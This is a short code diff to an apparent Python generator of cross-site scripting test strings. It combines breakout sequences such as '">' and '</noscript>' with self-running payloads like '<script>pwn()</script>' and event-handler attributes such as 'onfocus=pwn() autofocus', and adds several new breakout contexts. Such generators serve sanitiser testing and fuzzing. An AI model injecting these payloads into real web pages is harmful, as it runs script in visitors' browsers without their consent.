@@ -6,7 +6,10 @@ Made by combining how one gets out of where text stands with what then runs, and
 from itertools import product
 
 # Where text may stand, and how it gets out of there.
-OUT = ("", '">', "'>", "--></script>", "</title>", "</textarea>", "</style>", "]]>", "</select>", "</noscript>")
+OUT = (
+    *("", '">', "'>", "-->", "--></script>", "</title>", "</textarea>", "</style>", "]]>", "</select>"),
+    *("</noscript>", "</svg>", "</math>"),
+)
 # What runs by itself, or by the least a person does.
 RUN = (
     "<script>pwn()</script>",
@@ -27,7 +30,7 @@ ATTRIBUTES = tuple(
     f"{quote}{gap}{does}{gap}x={quote}"
     for quote, gap, does in product(
         ('"', "'"),
-        (" ", "/"),
+        (" ", "\t"),
         ("onmouseover=pwn()", "onfocus=pwn() autofocus", "onclick=pwn()", "onpointerenter=pwn()"),
     )
 )
